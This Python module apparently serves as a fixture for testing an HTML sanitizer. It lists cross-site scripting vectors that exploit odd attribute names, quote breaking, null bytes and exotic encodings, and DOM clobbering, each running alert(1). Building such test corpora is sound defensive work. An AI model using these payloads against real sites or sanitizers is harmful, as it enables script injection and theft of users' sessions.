"""Names that are not HTML, quotes in odd places, bytes that do not belong there, and names that hide those of the
browser.
"""

from __future__ import annotations

ODD_NAMES = [
    "<a <![cdata[href='javascript:alert(1)'>x</a>",
    "<a h---ref='javascript:alert(1)'>x</a>",
    "<a method='javascript_default'>x</a><unknown method='javascript:alert(1)'>y</unknown>",
    "<a href\0='javascript:alert(1)'>x</a>",
    "<a \0href='javascript:alert(1)'>x</a>",
    "<a hre\u017f='javascript:alert(1)' \u212aref='javascript:alert(1)'>x</a>",
    "<a x:href='javascript:alert(1)' xlink:xlink:href='javascript:alert(1)' xml:base='javascript:alert(1)'>x</a>",
    "<svg xmlns:y='http://www.w3.org/1999/xlink'><a y:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg xml:base='javascript:alert(1)//'><a href='#x'><text>y</text></a></svg>",
    "<p <script>alert(1)</script>=x>y</p>",
    "<p <img/src=x/onerror=alert(1)>y</p>",
    "<p @click='alert(1)' :onclick='alert(1)' v-on:click='alert(1)' ng-click='alert(1)' (click)='alert(1)'>x</p>",
    "<p [onclick]='alert(1)' *ngIf='alert(1)' x-on:click='alert(1)' hx-on:click='alert(1)'>x</p>",
    "<p data-='x' data-on<='y' data-a\"b='z' aria-='w' aria-on'click='v'>x</p>",
    "<p DATA-X='1' ARIA-LABEL='2' data-ä='3'>x</p>",
    "<p {{constructor.constructor('alert(1)')()}}>{{constructor.constructor('alert(1)')()}}</p>",
    "<x<y onclick=alert(1)>x</x<y>",
    "<a:script xmlns:a='http://www.w3.org/1999/xhtml'>alert(1)</a:script>",
    "<html:script>alert(1)</html:script>",
    "<svg:svg onload=alert(1)>x</svg:svg>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "<script\u2028>alert(1)</script>",
    "<script\x0b>alert(1)</script>",
    "<x-\u00e4 onclick=alert(1)>x</x-\u00e4>",
    "<annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml>",
    "<font-face onclick=alert(1) src='javascript:alert(1)'>x</font-face>",
    "<custom-element- onclick=alert(1)>x</custom-element->",
]
QUOTES = [
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    '<p title="\'><img src=x onerror=alert(1)>">x</p>',
    "<p title=`><img src=x onerror=alert(1)>`>x</p>",
    "<p title=\"`\" class='` onmouseover=alert(1) '>x</p>",
    '<p title=a"onclick=alert(1)>x</p>',
    "<p title='a'onclick='alert(1)'>x</p>",
    '<p title="&quot; onclick=alert(1) &quot;">x</p>',
    "<p title=&#x22;&#x3e;&#x3c;img&#x20;src=x&#x20;onerror=alert(1)&#x3e;>x</p>",
    '<p title="&#34&#62&#60script&#62alert(1)&#60/script&#62">x</p>',
    "<p title='\r\n\"><img src=x onerror=alert(1)>'>x</p>",
    "<p id='\"><script>alert(1)</script>' lang='\"><script>alert(1)</script>'>x</p>",
    "<img alt='\" onerror=\"alert(1)' src=x title='\" onerror=\"alert(1)'>",
    "<a href='https://mill.example/\"onclick=alert(1)//'>x</a>",
    '<a href="https://mill.example/\'><img src=x onerror=alert(1)>">x</a>',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt; &#60;img src=x onerror=alert(1)&#62;</p>",
    "<code>&lt;img src=x onerror=alert(1)&gt;</code><pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>",
    "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>",
    "<textarea>&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;</textarea>",
    "<option value='</select><script>alert(1)</script>'>&lt;/select&gt;</option>",
    "<p>[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)> [x]: javascript:alert(1)</p>",
    "<p>`<img src=x onerror=alert(1)>` ```<script>alert(1)</script>``` $\\href{javascript:alert(1)}{x}$</p>",
    "<script type='math/tex'>\\href{javascript:alert(1)}{x}</script>",
    "<script type='math/mml'><math href='javascript:alert(1)'></script>",
]
BYTES = [
    "<img src=x onerror\0=alert(1)>",
    "<im\0g src=x onerror=alert(1)>",
    "<\0img src=x onerror=alert(1)>",
    "<img\0src=x onerror=alert(1)>",
    "<svg>\0<script>alert(1)</script></svg>",
    "<p>\ufdd0\ufffe\U0001ffff<script>alert(1)</script>",
    "<p>\x1b$B\x1b(J<img src=x onerror=alert(1)>\x1b(B",
    "<p title='\x1b(J\\'><img src=x onerror=alert(1)>'>x",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<p>\u202e<script>alert(1)</script>\u2066</p>",
    "~{<script>alert(1)</script>~}",
]
HIDING = [
    f"<{tag} id={name} name={name}>x</{tag}>"
    for name in """
    addEventListener alert attributes body children cookie createElement currentScript defaultView documentElement forms
    getElementById head location parentNode querySelector querySelectorAll removeChild scrollingElement self top window
    """.split()
    for tag in ("a", "form", "img", "input", "object", "embed", "iframe")
] + [
    "<form id=x><input name=attributes><input id=nodeName><input name=parentNode></form>",
    "<form id=x></form><form id=x name=y><input id=z value=alert(1)></form>",
    "<a id=x></a><a id=x name=y href='javascript:alert(1)'></a>",
    "<iframe name=x srcdoc='<a id=y href=javascript:alert(1)></a>'></iframe>",
    "<form onclick=alert(1)><input name=onclick><input name=attributes></form>",
    "<form><input name=namespaceURI><input name=tagName><svg onload=alert(1)></form>",
]


def vectors() -> list[str]:
    """All of them."""
    return ODD_NAMES + QUOTES + BYTES + HIDING
